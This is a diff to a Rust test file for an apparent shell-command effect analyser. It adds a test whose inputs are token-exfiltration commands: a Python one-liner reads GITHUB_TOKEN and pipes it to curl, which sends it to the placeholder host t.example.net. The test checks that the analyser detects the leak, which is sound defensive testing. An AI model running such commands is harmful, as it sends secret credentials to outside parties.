@@ -1,5 +1,5 @@
-//! Files copied out of pods and through `xxd`, and `az rest` calls as the
-//! requests they are.
+//! Files copied out of pods and through `xxd`, `az rest` calls as the
+//! requests they are, and what inline code prints.
 
 #![allow(clippy::panic)]
 
@@ -74,4 +74,27 @@ fn az_rest_is_the_request_it_names() {
     );
     // Other `az` commands are not requests of this kind.
     assert!(effects("az account show").is_empty());
+}
+
+#[test]
+fn inline_code_prints_the_environment_it_reads() {
+    let out = effects(
+        "python3 -c 'import os; print(os.environ[\"GITHUB_TOKEN\"])' | xargs -I{} curl -s \"https://t.example.net/c?x={}\"",
+    );
+    let sent = out
+        .iter()
+        .find(|e| e["effect"] == "request")
+        .map(|e| e["payload"]["env"].to_string())
+        .unwrap_or_default();
+    assert!(sent.contains("GITHUB_TOKEN"), "{out:?}");
+    // Code that prints nothing hands nothing on.
+    let quiet = effects(
+        "python3 -c 'import os; t = os.environ[\"GITHUB_TOKEN\"]' | curl -s -d @- https://t.example.net/c",
+    );
+    let sent = quiet
+        .iter()
+        .find(|e| e["effect"] == "request")
+        .map(|e| e["payload"]["env"].to_string())
+        .unwrap_or_default();
+    assert!(!sent.contains("GITHUB_TOKEN"), "{quiet:?}");
 }
